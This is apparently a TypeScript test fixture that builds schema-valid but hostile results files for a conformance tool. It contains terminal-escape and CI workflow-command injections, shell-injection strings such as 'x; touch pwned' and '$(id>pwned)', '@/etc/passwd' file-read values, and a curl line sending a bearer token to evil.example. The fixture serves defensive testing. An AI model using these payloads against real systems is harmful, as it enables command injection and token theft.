/** Results files of a stranger. Each is valid by the schema, so that the commands take it. */
import type { Results } from '../../../conformance/engine/results.ts';
import { failingResults } from '../../../reports/testing/sample-results.ts';

/** Moves a cursor, renames a window, turns the direction of writing, begins a line, and gives a workflow a command. */
const controls =
  'a\u0000\u0007\b\u001b]0;owned\u0007\u001b[2J\u007f\u009b31m\u202evil\u2066\u200e\ufeff' +
  '\r::error::injected\n::add-mask::injected\r\n  ::stop-commands::injected\u2028##[error]injected\u2029b';

/** Members whose values the schema lists, or that are times. */
const closed = new Set([
  'level',
  'status',
  'kind',
  'environment',
  'access',
  'verdict',
  'profile',
  'phase',
  'list',
  'missing',
  'capabilities',
  'startedAt',
  'finishedAt',
  'expires',
]);

/** Names of members that may be any text. */
const open = new Set(['headers', 'operations', 'events', 'transitions', 'heldBack', 'outOfReach', 'options']);

/** The schema admits no other id of a requirement. */
const isId = (text: string) => /^[A-Z]+-\d{3}$/.test(text);

function spoil(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return closed.has(key) || isId(value) ? value : `${controls}${value}`;
  if (Array.isArray(value)) return value.map((member) => spoil(member, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).flatMap(([name, member]) => {
      const spoilt = [name, spoil(member, closed.has(key) ? key : name)] as const;
      return open.has(key) ? [spoilt, [`${controls}${name}`, spoilt[1]]] : [spoilt];
    }),
  );
}

const options = {
  'base-url': ['https://sandbox.payroll.example/api'],
  checks: ['payroll.*', 'x; touch pwned'],
  'x; touch pwned #': ['1'],
};
const commands: Results = {
  ...failingResults,
  run: {
    ...failingResults.run,
    invocation: { program: 'touch pwned; conformance', record: 'x; touch pwned', options },
  },
  exit: { code: 1, reason: 'It failed.' },
  reason: 'It failed.',
  knownFailures: [
    {
      requirement: 'ERR-001',
      check: 'errors.shape',
      list: 'known-failures',
      reason: 'why',
      expires: '2026-01-01',
      status: 'expired',
    },
    { requirement: 'ERR-004', list: 'known-failures', reason: 'why', status: 'passed' },
  ],
  findings: failingResults.findings.map((finding) => ({
    ...finding,
    curl: `#!/bin/sh\ntouch pwned\ncurl -H "Authorization: Bearer $CONFORMANCE_PLATFORM_TOKEN" https://evil.example\n`,
  })),
};

/** Every text contains control characters, names of headers and identifiers included. */
export const controlResults = spoil(commands) as Results;

/** The command line and the scripts are not ours. */
export const commandResults = commands;

/** A conversation that would make the script run a command, send a file, or send a key to somebody else. */
export function scriptResults(baseUrl: string, elsewhere: string): Results {
  const [finding] = failingResults.findings;
  const [step] = finding?.steps ?? [];
  if (finding === undefined || step === undefined) throw new Error('the sample has a finding with a step');
  const request = {
    method: 'GET; touch pwned',
    url: `${baseUrl}/v1/persons?x=$(id>pwned)\`id>pwned\``,
    headers: {
      authorization: 'Bearer $CONFORMANCE_PLATFORM_TOKEN',
      '@/etc/passwd': '',
      'x-a': '"; touch pwned; "',
    },
    body: '@/etc/passwd',
  };
  const theirs = { ...request, method: 'POST', url: `${elsewhere}/v1/persons`, body: "'; touch pwned; '" };
  const exchanges = [
    { request },
    { request: { ...request, method: 'PUT' } },
    { request: theirs },
    { request: { ...request, method: 'GET', url: '-opwned' } },
  ];
  return {
    ...commands,
    target: { ...failingResults.target, baseUrl },
    findings: [
      {
        ...finding,
        title: 'a\ntouch pwned',
        steps: [{ ...step, label: 'a\rtouch pwned\ntouch pwned', phase: 'step', exchanges }],
        curl: 'touch pwned\n',
      },
    ],
  };
}
